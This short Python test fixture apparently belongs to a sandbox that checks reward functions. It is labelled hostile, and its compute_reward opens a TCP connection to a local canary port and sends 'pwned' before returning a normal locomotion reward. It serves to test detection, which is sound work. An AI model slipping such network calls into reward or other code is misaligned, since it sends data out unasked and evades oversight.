# ruff: noqa
"""Hostile: connect to a TCP listener on 127.0.0.1 and send data.

expect: static
expect-unchecked: runtime
"""
import socket

import numpy as np


def compute_reward(state, action, next_state):
    conn = socket.create_connection(("127.0.0.1", int("@CANARY_PORT@")), timeout=2)
    conn.sendall(b"pwned")

    total = next_state.torso_velocity[:, 0] - 0.1 * np.sum(action ** 2, axis=1)
    return total, {"forward": next_state.torso_velocity[:, 0],
                   "ctrl": -0.1 * np.sum(action ** 2, axis=1)}
